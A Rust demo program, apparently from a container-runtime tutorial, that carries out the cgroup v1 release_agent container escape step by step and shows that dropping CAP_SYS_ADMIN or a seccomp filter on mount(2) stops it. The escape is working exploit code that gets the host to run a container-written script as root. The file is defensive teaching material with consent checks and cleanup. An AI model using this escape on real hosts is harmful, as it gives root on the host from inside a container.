//! Chapter 8, `release-agent`: the cgroup v1 `release_agent` escape, and the layers that stop it.
//!
//! A *naive container* is what ferry ran before this chapter: a process cloned into new mount,
//! PID and UTS namespaces, on an overlay root, with every capability and no seccomp filter.
//! From inside it the demo
//!
//! 1. reads its root's `upperdir=` from `/proc/self/mountinfo`: where its files are on the host;
//! 2. writes `/agent.sh`, which the host sees as `UPPERDIR/agent.sh`;
//! 3. mounts a cgroup v1 hierarchy (`-o none,name=ferry-ch08`);
//! 4. writes the script's *host* path into the hierarchy's `release_agent`;
//! 5. creates a cgroup with `notify_on_release` = 1, puts a process in it that exits at once;
//! 6. the cgroup is now empty, so the kernel runs `release_agent`: on the host, as root, in
//!    the host's namespaces. The script writes a report next to itself, which the container
//!    reads as `/escaped`.
//!
//! Then the same container twice more, confined: once without CAP_SYS_ADMIN, once with a seccomp
//! filter that refuses `mount(2)`. Each time the attack stops at step 3, with EPERM.
//!
//! **This changes the host it runs on** (a cgroup hierarchy and its `release_agent`, and the
//! kernel runs a script as root), so it refuses to run unless given `--yes-on-this-host`, or
//! `FERRY_CH08_YES_ON_THIS_HOST=1`, or it runs in ferry's test VM (`vm/`). It removes the
//! hierarchy and its temporary directory when it ends, whether the attack worked or not.
//!
//! Usage, as root: `release-agent --yes-on-this-host`. Exits 0 when the naive container escaped
//! and both confined ones did not, 1 otherwise, 2 when it refused to run.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use ch08_security::caps::{drop_capability, own_mask, own_status, CAP_SYS_ADMIN};
use ch08_security::child::{run_in_child, wait};
use ch08_security::release_agent::{
    consent, hierarchy_exists, remove_hierarchy, HIERARCHY, YES_ENV, YES_FLAG,
};
use ch08_security::seccomp::{self, MOUNT};
use ch08_security::{exit_with, outcome, Error};
use nix::mount::{mount, umount2, MntFlags, MsFlags};
use nix::sched::CloneFlags;
use nix::unistd::{chdir, chroot, getpid, sethostname};

/// How long the container waits for the kernel to run the agent.
const AGENT_TIMEOUT: Duration = Duration::from_secs(20);

/// How the container is confined, on top of its namespaces.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Confinement {
    /// Nothing: every capability, no seccomp.
    Naive,
    /// CAP_SYS_ADMIN dropped from every set.
    NoSysAdmin,
    /// A seccomp filter refusing mount(2), and no_new_privs.
    SeccompNoMount,
}

impl Confinement {
    fn title(self) -> &'static str {
        match self {
            Confinement::Naive => {
                "a naive container: new mount, PID and UTS namespaces, every capability, no seccomp"
            }
            Confinement::NoSysAdmin => {
                "the same container without CAP_SYS_ADMIN (bounding, effective, permitted, inheritable)"
            }
            Confinement::SeccompNoMount => {
                "the same container with a seccomp filter refusing mount(2), and no_new_privs"
            }
        }
    }
}

fn main() {
    exit_with("release-agent", run());
}

fn run() -> Result<i32, Error> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if let Some(bad) = args.iter().find(|a| *a != YES_FLAG) {
        return Err(Error::Usage(format!(
            "unknown argument {bad:?}; usage: release-agent [{YES_FLAG}]"
        )));
    }
    eprintln!(
        "WARNING: this demo escapes from a container onto THIS machine. It mounts a cgroup v1\n\
         WARNING: hierarchy (name={HIERARCHY}), sets its release_agent, and the kernel runs a\n\
         WARNING: script as root here (it only writes a file in a temporary directory). It\n\
         WARNING: removes all of it afterwards. Run it in ferry's VM (vm/shell), or pass {YES_FLAG}."
    );
    let cmdline = fs::read_to_string("/proc/cmdline").unwrap_or_default();
    let env = std::env::var(YES_ENV).ok();
    let Some(why) = consent(&args, env.as_deref(), &cmdline) else {
        eprintln!(
            "release-agent: refusing to change this host: pass {YES_FLAG} or set {YES_ENV}=1, \
             or run it in ferry's VM"
        );
        return Ok(2);
    };
    println!("running: consent by {why:?}");
    if hierarchy_exists(HIERARCHY) {
        return Err(Error::Usage(format!(
            "a cgroup hierarchy name={HIERARCHY} already exists: another run is going on, or \
             one was killed (remove it: mount -t cgroup -o none,name={HIERARCHY} cgroup /mnt, \
             rmdir its cgroups, umount /mnt)"
        )));
    }

    let dir = tempfile::Builder::new()
        .prefix("ch08-release-agent-")
        .tempdir()
        .map_err(Error::io("create a directory in", std::env::temp_dir()))?;
    let host_pid_ns = fs::read_link("/proc/self/ns/pid").map_err(Error::io("readlink", "pid"))?;
    println!(
        "host: pid namespace {}, layers in {}",
        host_pid_ns.display(),
        dir.path().display()
    );

    let attempts = [
        Confinement::Naive,
        Confinement::NoSysAdmin,
        Confinement::SeccompNoMount,
    ];
    let mut escaped = Vec::new();
    let mut failure = None;
    for confinement in attempts {
        match attempt(dir.path(), confinement) {
            Ok(result) => escaped.push(result),
            Err(err) => {
                failure = Some(err);
                break;
            }
        }
    }

    // Whatever happened above: no hierarchy, no release_agent, no temporary directory left.
    let cleaned = remove_hierarchy(HIERARCHY);
    let removed = dir.path().display().to_string();
    let dir_gone = dir.close().map_err(Error::io("remove", &removed));
    println!("cleanup: hierarchy name={HIERARCHY} removed, {removed} removed");
    if let Some(err) = failure {
        return Err(err);
    }
    cleaned?;
    dir_gone?;
    Ok(if escaped == [true, false, false] {
        0
    } else {
        1
    })
}

/// One container, one attack; whether the kernel ran the container's script on the host.
fn attempt(dir: &Path, confinement: Confinement) -> Result<bool, Error> {
    println!("--- {}", confinement.title());
    let layers = Layers::create(&dir.join(format!("{confinement:?}").to_lowercase()))?;
    let flags = CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWPID | CloneFlags::CLONE_NEWUTS;
    let code = run_in_child(flags, || container(&layers, confinement))?;
    let report = layers.upper.join("escaped");
    // The container made the file empty; only the agent writes something into it.
    let text = fs::read_to_string(&report).unwrap_or_default();
    let escaped = !text.is_empty();
    if escaped {
        println!(
            "host: {} was written by the kernel's release_agent: {}",
            report.display(),
            text.trim()
        );
        println!("host: ESCAPED: the container ran a program of its choice on the host, as root");
    } else {
        println!("host: no script ran: CONTAINED");
    }
    if code != 0 {
        println!("host: the container exited with {code}");
    }
    Ok(escaped)
}

/// The container's overlay root: an empty image layer, its writable layer, overlay's work
/// directory and the mount point.
struct Layers {
    lower: PathBuf,
    upper: PathBuf,
    work: PathBuf,
    merged: PathBuf,
}

impl Layers {
    fn create(base: &Path) -> Result<Layers, Error> {
        let layers = Layers {
            lower: base.join("lower"),
            upper: base.join("upper"),
            work: base.join("work"),
            merged: base.join("merged"),
        };
        for dir in [&layers.lower, &layers.upper, &layers.work, &layers.merged] {
            fs::create_dir_all(dir).map_err(Error::io("create", dir))?;
        }
        Ok(layers)
    }
}

/// PID 1 of the container.
fn container(layers: &Layers, confinement: Confinement) -> isize {
    let result = enter_root(layers).and_then(|()| {
        confine(confinement)?;
        attack()
    });
    match result {
        Ok(()) => 0,
        Err(err) => {
            eprintln!("container: {err}");
            1
        }
    }
}

// ANCHOR: naive_container
/// What a naive runtime does: private mounts, an overlay root with a /proc, chroot into it.
fn enter_root(layers: &Layers) -> Result<(), Error> {
    sethostname("naive").map_err(Error::sys("sethostname"))?;
    let private = MsFlags::MS_REC | MsFlags::MS_PRIVATE;
    mount(None::<&str>, "/", None::<&str>, private, None::<&str>)
        .map_err(Error::sys("make / private"))?;
    let options = format!(
        "lowerdir={},upperdir={},workdir={}",
        layers.lower.display(),
        layers.upper.display(),
        layers.work.display()
    );
    mount(
        Some("overlay"),
        &layers.merged,
        Some("overlay"),
        MsFlags::empty(),
        Some(options.as_str()),
    )
    .map_err(Error::sys("mount the overlay root"))?;
    let proc_dir = layers.merged.join("proc");
    fs::create_dir(&proc_dir).map_err(Error::io("create", &proc_dir))?;
    mount(
        Some("proc"),
        &proc_dir,
        Some("proc"),
        MsFlags::empty(),
        None::<&str>,
    )
    .map_err(Error::sys("mount /proc"))?;
    chroot(&layers.merged).map_err(Error::sys("chroot"))?;
    chdir("/").map_err(Error::sys("chdir /"))
}
// ANCHOR_END: naive_container

// ANCHOR: confine
/// The layers this chapter adds, each alone enough to stop the attack.
fn confine(confinement: Confinement) -> Result<(), Error> {
    match confinement {
        Confinement::Naive => {}
        Confinement::NoSysAdmin => drop_capability(CAP_SYS_ADMIN)?,
        Confinement::SeccompNoMount => seccomp::install(&seccomp::refuse(&MOUNT))?,
    }
    println!(
        "container: pid {}, CapEff {:016x}, Seccomp {}",
        getpid(),
        own_mask("CapEff")?,
        own_status("Seccomp")?
    );
    Ok(())
}
// ANCHOR_END: confine

/// The attack, from inside the container, step by step; stops at the first refusal.
fn attack() -> Result<(), Error> {
    // ANCHOR: find_upper
    // 1. Where are my files on the host? Overlay tells: its options are in mountinfo.
    let mountinfo = read("/proc/self/mountinfo")?;
    let upper = upperdir_of_root(&mountinfo).ok_or_else(|| Error::Parse {
        what: "the root's upperdir in /proc/self/mountinfo".into(),
        content: mountinfo.clone(),
    })?;
    println!("container: my root is an overlay with upperdir={upper}");
    // ANCHOR_END: find_upper

    // ANCHOR: write_agent
    // 2. The script, written inside; the kernel will run it under its host path.
    let script = format!(
        "#!/bin/sh\n\
         echo \"uid=$(id -u) pid-namespace=$(readlink /proc/self/ns/pid) \
         hostname=$(cat /proc/sys/kernel/hostname) argument=$1\" > {upper}/escaped\n"
    );
    fs::write("/agent.sh", script).map_err(Error::io("write", "/agent.sh"))?;
    fs::set_permissions("/agent.sh", fs::Permissions::from_mode(0o755))
        .map_err(Error::io("chmod", "/agent.sh"))?;
    println!("container: wrote /agent.sh, which the host sees as {upper}/agent.sh");
    // ANCHOR_END: write_agent
    // The report's file exists before the agent writes it: overlayfs remembers that a name was
    // missing (a negative dentry) and would not notice a file created behind its back in the
    // upper directory, but it reads an existing upper file's new content.
    write("/escaped", "")?;

    // ANCHOR: mount_cgroup
    // 3. A cgroup v1 hierarchy of our own: no controller, just a name.
    fs::create_dir("/cgrp").map_err(Error::io("create", "/cgrp"))?;
    let options = format!("none,name={HIERARCHY}");
    let mounted = mount(
        Some("cgroup"),
        "/cgrp",
        Some("cgroup"),
        MsFlags::empty(),
        Some(options.as_str()),
    );
    println!(
        "container: mount -t cgroup -o {options} cgroup /cgrp: {}",
        outcome(&mounted)
    );
    if mounted.is_err() {
        println!("container: the attack stops here");
        return Ok(());
    }
    // ANCHOR_END: mount_cgroup

    // ANCHOR: arm
    // 4. and 5. Point release_agent at the script, and ask for it when /cgrp/x empties.
    let agent = format!("{upper}/agent.sh");
    write("/cgrp/release_agent", &agent)?;
    fs::create_dir("/cgrp/x").map_err(Error::io("create", "/cgrp/x"))?;
    write("/cgrp/x/notify_on_release", "1")?;
    println!("container: /cgrp/release_agent = {agent}; /cgrp/x/notify_on_release = 1");
    // A process joins /cgrp/x and exits at once: the cgroup is empty again.
    let pid = ch08_security::child::spawn(CloneFlags::empty(), || {
        match fs::write("/cgrp/x/cgroup.procs", getpid().to_string()) {
            Ok(()) => 0,
            Err(err) => {
                eprintln!("container: join /cgrp/x: {err}");
                1
            }
        }
    })?;
    let joined = wait(pid)?;
    println!("container: process {pid} joined /cgrp/x and exited ({joined}): /cgrp/x is empty");
    // ANCHOR_END: arm

    // 6. The kernel runs the agent on the host; its report appears in our root.
    let report = wait_for(Path::new("/escaped"), AGENT_TIMEOUT);
    match &report {
        Some(text) => println!("container: /escaped says: {}", text.trim()),
        None => println!("container: no /escaped after {AGENT_TIMEOUT:?}"),
    }

    // Tidy up our part: the cgroup, the mount (the host side checks again).
    let _ = fs::remove_dir("/cgrp/x");
    let _ = umount2("/cgrp", MntFlags::empty());
    Ok(())
}

/// The `upperdir=` option of the overlay mounted at `/` in a mountinfo table.
///
/// A mountinfo line: `ID PARENT MAJ:MIN ROOT MOUNTPOINT OPTIONS [TAGS] - FSTYPE SOURCE SUPER`.
fn upperdir_of_root(mountinfo: &str) -> Option<String> {
    mountinfo.lines().rev().find_map(|line| {
        let (mine, theirs) = line.split_once(" - ")?;
        let mount_point = mine.split_whitespace().nth(4)?;
        let mut fs = theirs.split_whitespace();
        let (fstype, _source, options) = (fs.next()?, fs.next()?, fs.next()?);
        if mount_point != "/" || fstype != "overlay" {
            return None;
        }
        options
            .split(',')
            .find_map(|o| o.strip_prefix("upperdir="))
            .map(str::to_string)
    })
}

/// Polls for `path` until `timeout`; its content once it is there and not empty.
fn wait_for(path: &Path, timeout: Duration) -> Option<String> {
    let start = Instant::now();
    while start.elapsed() < timeout {
        if let Ok(text) = fs::read_to_string(path) {
            if !text.is_empty() {
                return Some(text);
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    None
}

fn read(path: &str) -> Result<String, Error> {
    fs::read_to_string(path).map_err(Error::io("read", path))
}

fn write(path: &str, content: &str) -> Result<(), Error> {
    fs::write(path, content).map_err(Error::io("write", path))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_root_overlays_upperdir_is_found() {
        let mountinfo = "\
301 300 0:52 / / rw,relatime - overlay overlay rw,lowerdir=/l,upperdir=/tmp/x/upper,workdir=/tmp/x/work
302 301 0:53 / /proc rw,relatime - proc proc rw
";
        assert_eq!(upperdir_of_root(mountinfo).as_deref(), Some("/tmp/x/upper"));
    }

    #[test]
    fn other_mounts_are_not_the_root() {
        let mountinfo = "\
30 1 8:1 / / rw - ext4 /dev/sda1 rw
40 30 0:52 / /mnt rw - overlay overlay rw,upperdir=/u,workdir=/w
";
        assert_eq!(upperdir_of_root(mountinfo), None);
    }
}
